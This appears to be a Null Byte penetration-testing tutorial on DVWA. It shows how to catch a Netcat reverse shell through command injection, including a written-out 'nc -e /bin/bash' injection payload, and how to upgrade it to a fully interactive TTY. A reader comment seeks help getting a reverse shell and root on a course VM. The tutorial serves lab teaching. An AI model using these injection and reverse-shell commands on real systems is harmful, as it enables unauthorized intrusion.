How To: Upgrade a Dumb Shell to a Fully Interactive Shell for More Flexibility

Upgrade a Dumb Shell to a Fully Interactive Shell for More Flexibility

One of the most exciting things as an ethical hacker, in my opinion, is catching a reverse shell. But often, these shells are limited, lacking the full power and functionality of a proper terminal. Certain things don't work in these environments, and they can be troublesome to work with. Luckily, with a few commands, we can upgrade to a fully interactive shell with all the bells and whistles.

It can often be frustrating when working with reverse shells if all you have is a "dumb" shell. A dumb shell is a type of shell that doesn't have a proper terminal's full functionality. That means things like tab completion, keyboard shortcuts, and terminal history simply aren't present.

Specific commands like su will not work in dumb shells, which makes things complicated when trying different privilege escalation techniques. Text editors don't work very well in these conditions either, which can be a pain.

Perhaps the most annoying thing that can happen (I'm sure it's happened to many of you) is accidentally losing your session by hitting the wrong keys. Let's say you run a command, and it hangs, and you instinctively hit Control-C to cancel it. Well, there goes yourshell. It can be infuriating, especially if there were a lot of steps to get that shell.

With a little command-line magic, we can get around this limitation, though, and come out on top with a fully functional interactive shell.

Step 1: Get a Limited Shell

To get started, we will use command injection to obtain our initial shell. To demonstrate, we'll be using DVWA (Damn Vulnerable Web App), but you can use a similar testing configuration. Browse to DVWA and log in using the default credentials.

Next, go to the "DVWA Security" page, and change the security level to low. Doing so will ensure everything works properly.

Now, on Kali, we can start a listener with Netcat to catch any incoming connections to our machine. The flags can all be grouped as -lvp, where -l starts a listener, -v makes it verbose, and -p specifies the port (1234, in this exercise).

~# nc -lvp 1234

listening on [any] 1234 ...

Back in DVWA, navigate to the "Command Execution" page. It will allow us to tack on a system command to the default functionality of pinging an IP address.

The entire command is seen below. It tells the target to connect to our machine on port 1234 via Netcat, and then execute a bash shell.

localhost && nc 1234 -e /bin/bash

Once we hit the "submit" button, we should see a connection open up on our listener. There won't be a prompt, instead only a blinking cursor will appear. inverse host lookup failed: Unknown hostconnect to [] from (UNKNOWN) [] 52685

It's what a lot of shells look like, especially after popping them from a web application. If we run a command like id though, we can see it is working.


uid=33(www-data) gid=33(www-data) groups=33(www-data)

Step 2: Spawn a Bash Shell

One of the easiest and most reliable ways to upgrade a dumb shell to a fully interactive shell can be done with Python. Chances are, if the target is a Linux box, it is going to have some version of Python installed.

First, check which version of Python is installed with the which command.

which python


It will usually show python or python3. Now we can use this to spawn a proper bash shell. Below, the -c flag specifies thecommand to run. In this case, it first imports the pty module. The pty module offers pseudo-terminal abilities to the shell, which is useful for some commands that require a terminal environment to run. Then, it spawns a bash shell, and after we hit Enter, we should see a real prompt.

python -c 'import pty;pty.spawn("/bin/bash")'


Now that is a little better, but we still don't have tab completion or command history, and if we hit Control-C it will still exit the session. Next, we will upgrade to a fully functional shell with a little Linux fu.

Step 3: Upgrade to Interactive Shell

The next thing we need to do might seem counterintuitive, but background the shell with Control-Z.

www-data@metasploitable:/var/www/dvwa/vulnerabilities/exec$ ^Z

[1]+  Stopped                 nc -lvp 1234

We need some information about our own terminal, so use the echo command to display the current terminal that's set.

~# echo $TERM


And enter stty -a to view its characteristics.

~# stty -a

speed 38400 baud; rows 56; columns 213; line = 0;
intr = ^C; quit = ^\; erase = ^?; kill = ^U; eof = ^D; eol = <undef>; eol2 = <undef>; swtch = <undef>; start = ^Q; stop = ^S; susp = ^Z; rprnt = ^R;werase = ^W; lnext = ^V; discard = ^O; min = 1; time = 0;
-parenb -parodd -cmspar cs8 -hupcl -cstopb cread -clocal -crtscts
-ignbrk -brkint -ignpar -parmrk -inpck -istrip -inlcr -igncr icrnl ixon -ixoff -iuclc -ixany -imaxbel iutf8
opost -olcuc -ocrnl onlcr -onocr -onlret -ofill -ofdel nl0 cr0 tab0 bs0 vt0 ff0
isig icanon iexten echo echoe echok -echonl -noflsh -xcase -tostop -echoprt echoctl echoke -flusho -extproc

Make a note of the number of rows and columns. Next, enter the following command which will allow us to pass keyboard shortcuts through.~# stty raw -echo

Now, type fg to foreground our shell running in the background. You won't be able to see those letters on the screen as you type, but hit Enter afterward, and the Netcat command will appear automatically. Next, type reset to reset the terminal. It will look weird when you type it, but it works.

~# nc -lvp 1234It may ask to set the terminal type. Sometimes the color version of xterm won't work, so we can just use the regular xterm instead.

reset: unknown terminal type unknown
Terminal type? xterm-256color

reset: unknown terminal type xterm-256color
Terminal type? xterm

If you can't clear the screen or use the up arrow to view history at this point, use the following commands to set the terminal type and shell once more.

www-data@metasploitable:/var/www/dvwa/vulnerabilities/exec$ export TERM=xterm
www-data@metasploitable:/var/www/dvwa/vulnerabilities/exec$ export SHELL=bash

Now the only thing that's left to do is set the appropriate size of the terminal. Sometimes if we are drilled way down into a directory or have a really long prompt, the input will wrap around and be difficult to read. By setting the rows and columns to the same as our native terminal, we can avoid this.

www-data@metasploitable:/var/www/dvwa/vulnerabilities/exec$ stty rows 56 columns 213

We now have a fully interactive shell that will allow us to use keyboard shortcuts, clear the screen, remember history, and have all the same functionality of your favorite local terminal — all over a Netcat connection.Wrapping Up

Today, we learned about dumb shells and their limitations, as well as what can go wrong when using them. First, we got our initial shell via command injection. We then used Python to spawn a bash shell, and finally, we were able to mirror our current terminal configuration to upgrade to a fully interactive shell. With this technique, you can now reverse shell in style.

Just updated your iPhone? You'll find new features for Podcasts, News, Books, and TV, as well as important security improvements and fresh wallpapers. Find out what's new and changed on your iPhone with the iOS 17.5 update.

Cover image by Tatiana Shepeleva/123RF; Screenshots by drd_/Null Byte

1 Comment

Hello world!

I am system engineering student, and I'm attending a course named data security. One of the subjects is exploit a cloud vm (created by the profesor) connect the vm, set a shell and later gain root access. Te problem is the vm is outside my lan. Besides, the vm is a zimbra mail server executed in a nginx server, other students turn a web site, other P2P apps.

I used the comand ncat -C 200225(Ipv4 adress) -ssl and his output was: ncat connected to 200.*.225. Which means that is accessible. But the problem is when I execute the shell(ncat -e bin/sh 443), fails. Do you know how can gain the root acess in the host that is outside of my lan? Please, give me some examples(with ncat). Some people says that ngrok is the solution; but I'm not sure how can this help.

Pd: The Vm is a microsoft azure cloud vm with a Ipv4 ip adress. And the mail server is executed under a localhost (type:200.**.225). For other hand, the vm host is linux kernel 4.x. For if worth for something. The other option is to set php shell upload in a php file and send it to the target. But I dont know how to do this. I comment this because is a similarissues with this example.

ShareYour Thoughts

  • Hot
  • Latest